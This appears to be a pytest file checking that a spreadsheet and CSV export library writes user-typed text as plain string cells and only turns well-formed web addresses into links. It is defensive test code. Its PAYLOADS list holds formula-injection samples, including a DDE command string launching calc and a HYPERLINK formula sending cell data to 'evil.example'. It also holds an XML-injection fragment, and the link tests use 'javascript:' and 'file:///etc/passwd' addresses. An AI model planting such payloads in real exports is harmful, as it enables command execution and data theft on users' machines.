"""Text that users typed stays text, whatever a spreadsheet would run."""

import csv
import io
import zipfile

import pytest
from lxml import etree

from common.csvfiles import BOM, write_csv
from common.tests.workbook_files import formulas_in, sheet_of, written
from common.workbooks import (
    Column,
    sinks,
)

PAYLOADS = [
    "=1+1",
    "+7 900 000-00-00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
    "=cmd|'/C calc'!A0",
    "＝1+1",
    "＋1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "  =1+1",
    "{=SUM(A1:A2)}",
    '<r><t>x</t></r></is></c><c r="Z9"><f>1+1</f></c><r></r>',
]


@pytest.mark.parametrize("constant_memory", [False, True], ids=["in memory", "streaming"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_typed_by_a_user_is_a_string_cell_in_every_place(payload, constant_memory):
    columns = [
        Column(payload, key="text", note=payload),
        Column("Ссылка", key="link", kind="link"),
        Column("Число", key="number", kind="integer"),
        Column("Дата", key="date", kind="date"),
        Column("Район", key="district", choices=[payload, "Центральный"]),
    ]
    row = dict.fromkeys(["text", "link", "number", "date", "district"], payload)
    data = written(columns, [row], constant_memory=constant_memory, heading_lines=[payload], totals=payload)

    sheet = sheet_of(data)
    assert formulas_in(data) == 0
    expected = payload.replace("\r", "\n")
    assert [cell.value for cell in sheet[4]] == [expected] * 5
    assert {cell.data_type for cell in sheet[4]} == {"s"}
    assert sheet["A1"].value == expected
    assert sheet["A3"].value == expected
    assert sheet["A5"].value == expected
    assert sheet["B4"].hyperlink is None


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_puts_an_apostrophe_before_what_a_spreadsheet_would_run(payload):
    stream = io.StringIO()
    write_csv(stream, [Column("Имя", key="name"), Column("Сумма", key="sum")], [{"name": payload, "sum": -5}])

    _, (name, amount) = csv.reader(io.StringIO(stream.getvalue().removeprefix(BOM)), delimiter=";")
    text = payload.replace("\r", "\n")
    harmless = payload.startswith(("{", "<"))
    assert name == (text if harmless else f"'{text}")
    assert amount == "-5"


@pytest.mark.parametrize(
    ("constant_memory", "part"), [(False, "xl/sharedStrings.xml"), (True, "xl/worksheets/sheet1.xml")]
)
def test_text_that_looks_like_an_escape_of_the_format_is_escaped_itself(constant_memory, part):
    data = written([Column("Текст")], [["_x0041_"]], constant_memory=constant_memory)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        texts = [node.text for node in etree.fromstring(archive.read(part)).iter("{*}t")]
    assert texts == ["Текст", "_x005F_x0041_"]


@pytest.mark.parametrize(
    ("address", "clickable"),
    [
        ("https://school17.example.org/наставничество", True),
        ("http://example.org/a?b=c&d=e#f", True),
        ("javascript:alert(1)", False),
        ("internal:Лист!A1", False),
        ("external:c:\\temp\\a.xlsx", False),
        ("file:///etc/passwd", False),
        ("https://", False),
        ("https://a b", False),
        ("https://user@example.org/", False),
        ("https://example.org:99999/", False),
        ("https://example.org/" + "я" * 2100, False),
        ('https://example.org/"x', False),
        ("см. на сайте", False),
    ],
)
@pytest.mark.parametrize("constant_memory", [False, True], ids=["in memory", "streaming"])
def test_only_a_whole_web_address_becomes_a_link(address, clickable, constant_memory):
    data = written([Column("Ссылка", kind="link")], [[address]], constant_memory=constant_memory)
    cell = sheet_of(data)["A2"]
    assert cell.value == address
    assert (cell.hyperlink is not None) == clickable


def test_links_above_the_limit_of_excel_stay_text(monkeypatch):
    monkeypatch.setattr(sinks, "MOST_LINKS", 2)
    sheet = sheet_of(
        written([Column("Ссылка", kind="link")], [[f"https://example.org/{n}"] for n in range(4)])
    )
    assert [sheet[f"A{row}"].hyperlink is not None for row in range(2, 6)] == [True, True, False, False]
    assert sheet["A5"].value == "https://example.org/3"
